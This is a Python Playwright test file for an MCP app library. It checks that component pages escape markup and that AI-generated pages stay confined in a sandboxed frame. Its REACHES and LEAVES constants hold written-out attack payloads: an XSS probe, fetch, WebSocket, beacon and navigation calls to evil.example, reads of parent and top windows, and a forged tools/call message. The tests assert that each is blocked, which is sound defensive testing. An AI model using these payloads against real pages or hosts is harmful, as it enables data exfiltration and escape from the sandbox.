"""Pages in a host: components of prefab-ui, as docs/extensions.md has them, and a page that the model has written."""

from __future__ import annotations

import ast
import json
from typing import TYPE_CHECKING, Any, Final

import pytest

import mcprev
from browser.page_host import HOST, SANDBOX, PageHost, alone, hosted
from mcprev.app.ready_pages import MAX_GENERATED, generated_page
from mcprev_types.latest import models
from prose.test_guides import sections

if TYPE_CHECKING:
    from playwright.sync_api import Browser

PARTIAL: Final = "ui/notifications/tool-input-partial"
WAITING: Final = "Waiting for the page…"


def stall() -> mcprev.App:
    """The app of the guide whose pages are made of components."""
    names: dict[str, Any] = {}
    program = sections("extensions.md")["Build pages of components in Python"]
    code = compile(program, "extensions.md", "exec", ast.PyCF_ALLOW_TOP_LEVEL_AWAIT)
    alone(lambda: eval(code, names))  # noqa: S307 - our own page
    app: mcprev.App = names["app"]
    return app


def test_components_show_data_and_call_tools_of_their_server(browser: Browser) -> None:
    with hosted(browser, stall(), "ui://components") as host:
        host.give("fruit", {"kind": "apples"})
        host.shown.get_by_role("heading", name="12 apples", exact=True).wait_for()
        host.shown.get_by_placeholder("Buyer").fill("<b>Ann</b>")
        host.shown.get_by_role("button", name="Sell one").click()
        host.shown.get_by_text("Sold to <b>Ann</b>", exact=True).wait_for()
        host.shown.get_by_role("heading", name="11 apples", exact=True).wait_for()
        assert host.asked == []


def test_a_form_of_components_calls_a_tool_where_the_host_allows_forms(browser: Browser) -> None:
    # Imported here: with pydantic models of each component, as slowly as all of our tests of a folder.
    from prefab_ui.actions import SetState
    from prefab_ui.actions.mcp import CallTool
    from prefab_ui.app import PrefabApp
    from prefab_ui.components import Button, Column, Form, Input, Text
    from prefab_ui.renderer import get_renderer_html
    from prefab_ui.rx import RESULT, STATE

    app = mcprev.App("a", "1")
    page = app.ui("ui://components", get_renderer_html("bundled"))

    @app.tool(ui=page)
    def ask() -> models.CallToolResult:
        with PrefabApp(state={"said": ""}) as shown, Column():
            with Form(
                on_submit=CallTool(
                    "greet", arguments={"name": STATE.name}, on_success=SetState("said", RESULT.said)
                )
            ):
                Input(name="name")
                Button("Send", button_type="submit")
            Text(f"{STATE.said}")
        return models.CallToolResult(content=[], structured_content=shown.to_json())

    @app.tool(ui=page.app_only)
    def greet(name: str) -> dict[str, str]:
        return {"said": f"Hello {name}"}

    with hosted(browser, app, page.uri, allowed="allow-scripts allow-same-origin allow-forms") as host:
        host.give("ask", {})
        host.shown.get_by_role("textbox").fill("Ann")
        host.shown.get_by_role("button").click()
        host.shown.get_by_text("Hello Ann").wait_for()


def test_a_name_in_components_is_no_markup(browser: Browser) -> None:
    with hosted(browser, stall(), "ui://components") as host:
        host.give("fruit", {"kind": "<img src=x onerror=alert(1)>{{ left }}"})
        host.shown.get_by_role(
            "heading", name="0 <img src=x onerror=alert(1)>{{ left }}", exact=True
        ).wait_for()
        assert host.shown.locator("img").count() == 0
        assert host.asked == []


def drawn(host: PageHost) -> Any:
    """What the frame inside the page shows."""
    return host.shown.frame_locator("iframe")


def show(host: PageHost, html: str) -> None:
    host.give("show_page", {"html": html})


def test_a_page_of_the_model_runs_and_gets_its_height(browser: Browser) -> None:
    with hosted(browser, generated_page(mcprev.App("a", "1")), "ui://generated") as host:
        assert host.shown.get_by_role("status").inner_text() == WAITING
        show(
            host,
            "<!doctype html><html lang=en><body style='margin:0;height:700px'><button onclick='this.textContent=6*7'>Go</button>",
        )
        drawn(host).get_by_role("button").click()
        assert drawn(host).get_by_role("button").inner_text() == "42"
        assert drawn(host).locator("html").get_attribute("lang") == "en"
        host.page.wait_for_function("() => heard.at(-1).params.height === 700")
        show(host, "<body style='height:1e9px'>")
        host.page.wait_for_function("() => heard.at(-1).params.height === 4000")


def test_a_page_is_shown_while_it_is_written_and_its_scripts_run_at_the_end(browser: Browser) -> None:
    html = "<h1>Tides</h1><script>document.querySelector('h1').textContent = 'Done'</script>"
    with hosted(browser, generated_page(mcprev.App("a", "1")), "ui://generated") as host:
        host.tell(PARTIAL, {"arguments": {"html": html}})
        drawn(host).get_by_text("Tides").wait_for()
        host.tell("ui/notifications/tool-input", {"arguments": {"html": html}})
        drawn(host).get_by_text("Done").wait_for()
        host.tell(PARTIAL, {"arguments": {"html": "late"}})
        host.tell("ui/notifications/tool-cancelled", {"reason": "late"})
        assert drawn(host).get_by_role("heading").inner_text() == "Done"


@pytest.mark.parametrize(
    ("method", "params", "says"),
    [
        (PARTIAL, {"arguments": {"html": "x" * (MAX_GENERATED + 1)}}, "The page is too long to be shown."),
        ("ui/notifications/tool-cancelled", {"reason": "<b>"}, "The page was not finished."),
        ("ui/notifications/tool-result", {"content": [], "isError": True}, "The page could not be shown."),
    ],
    ids=["too long", "cancelled", "failed"],
)
def test_the_page_says_why_there_is_none(
    browser: Browser, method: str, params: dict[str, Any], says: str
) -> None:
    with hosted(browser, generated_page(mcprev.App("a", "1")), "ui://generated") as host:
        host.tell(PARTIAL, {"arguments": {"html": "<h1>begun</h1>"}})
        host.tell(method, params)
        host.shown.get_by_text(says, exact=True).wait_for()
        assert host.shown.locator("iframe").count() == 0


def test_the_page_answers_its_host_and_ignores_what_it_does_not_know(browser: Browser) -> None:
    with hosted(browser, generated_page(mcprev.App("a", "1")), "ui://generated") as host:
        for message in (
            None,
            7,
            "x",
            {"method": PARTIAL},
            {"method": PARTIAL, "params": {"arguments": 1}},
            {"method": "toString"},
        ):
            host.page.evaluate("(message) => frame.contentWindow.postMessage(message, '*')", message)
        for number, method in enumerate(("ping", "ui/resource-teardown", "tools/list"), 7):
            host.page.evaluate("(message) => tell(message)", {"id": number, "method": method, "params": {}})
        host.page.wait_for_function("() => heard.at(-1).id === 9")
        assert [(each.get("result"), each.get("error", {}).get("code")) for each in host.heard[-3:]] == [
            ({}, None), ({}, None), (None, -32601),
        ]  # fmt: skip
        assert host.shown.get_by_role("status").inner_text() == WAITING


REACHES: Final = """
<img src="https://evil.example/img"><link rel="stylesheet" href="https://evil.example/css">
<script src="https://evil.example/js"></script><iframe src="https://evil.example/frame"></iframe>
<link rel="prefetch" href="https://evil.example/prefetch"><object data="https://evil.example/object"></object>
<style>@import "https://evil.example/import"; body { background: url(https://evil.example/background) }</style>
<form action="https://evil.example/form" method="post"><input name="a"></form>
<output></output>
<script>
  const found = {};
  const attempt = async (name, act) => {
    try { found[name] = String(await act()); } catch (error) { found[name] = error.name; }
  };
  const nested = document.createElement("iframe");
  nested.sandbox = "allow-scripts allow-same-origin allow-top-navigation";
  nested.srcdoc = "<script>fetch('https://evil.example/nested').catch(() => parent.postMessage('refused', '*'))<\\/script>";
  const refused = new Promise((done) => { onmessage = ({ data }) => done(data); });
  document.body.append(nested);
  (async () => {
    await attempt("page", () => parent.document.title);
    await attempt("host", () => top.document.title);
    await attempt("storage", () => localStorage.length);
    await attempt("window", () => open("https://evil.example/window"));
    await attempt("top", () => { top.location = "https://evil.example/top"; });
    await attempt("around", () => { parent.location = "https://evil.example/around"; });
    await attempt("fetch", () => fetch("https://evil.example/fetch"));
    await attempt("socket", () => new Promise((done) => { new WebSocket("wss://evil.example/socket").onerror = () => done("refused"); }));
    await attempt("events", () => new Promise((done) => { new EventSource("https://evil.example/events").onerror = () => done("refused"); }));
    await attempt("image", () => new Promise((done) => { const image = new Image(); image.onerror = () => done("refused"); image.src = "https://evil.example/image"; }));
    await attempt("nested", () => refused);
    document.forms[0].submit();
    navigator.sendBeacon("https://evil.example/beacon", "x");
    parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/tool-cancelled", params: {} }, "*");
    top.postMessage({ jsonrpc: "2.0", id: 9, method: "tools/call", params: { name: "show_page", arguments: {} } }, "*");
    document.querySelector("output").textContent = JSON.stringify(found);
  })();
</script>
"""
LEAVES: Final = (
    "<script>location = 'https://evil.example/location?data=1'</script>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/refresh'>",
    "<a href='https://evil.example/link'>x</a><script>document.querySelector('a').click()</script>",
    "<script>location = 'data:text/html,<script>fetch(\"https://evil.example/data\")</scr' + 'ipt>'</script>",
    "<script>const code = '<script>fetch(\"https://evil.example/blob\")</scr' + 'ipt>'; location = URL.createObjectURL(new Blob([code], {type: 'text/html'}))</script>",
)


@pytest.mark.parametrize("policy", [True, False], ids=["host with a policy", "host without"])
def test_a_page_of_the_model_reaches_neither_network_nor_host(browser: Browser, *, policy: bool) -> None:
    app = generated_page(mcprev.App("a", "1"))
    with hosted(browser, app, "ui://generated", policy=policy) as host:
        show(host, REACHES)
        output = drawn(host).locator("output")
        output.filter(has_text="{").wait_for()
        assert json.loads(output.inner_text()) == dict.fromkeys(
            ("page", "host", "storage", "top", "around"), "SecurityError"
        ) | {"window": "null", "fetch": "TypeError"} | dict.fromkeys(
            ("socket", "events", "image", "nested"), "refused"
        )
        assert host.page.evaluate("() => strange")[-1]["method"] == "tools/call"
        assert "tools/call" not in {each.get("method") for each in host.heard}
        assert host.shown.locator("p").text_content() == ""
        assert host.asked == []
        assert len(host.page.context.pages) == 1


@pytest.mark.parametrize("policy", [True, False], ids=["host with a policy", "host without"])
def test_a_page_of_the_model_goes_to_no_other_address(browser: Browser, *, policy: bool) -> None:
    for html in LEAVES:
        with hosted(browser, generated_page(mcprev.App("a", "1")), "ui://generated", policy=policy) as host:
            show(host, html)
            drawn(host).get_by_text("This content is blocked").first.wait_for(state="attached")
            assert host.asked == []
            assert [each.url for each in host.page.frames] == [HOST, SANDBOX, "chrome-error://chromewebdata/"]
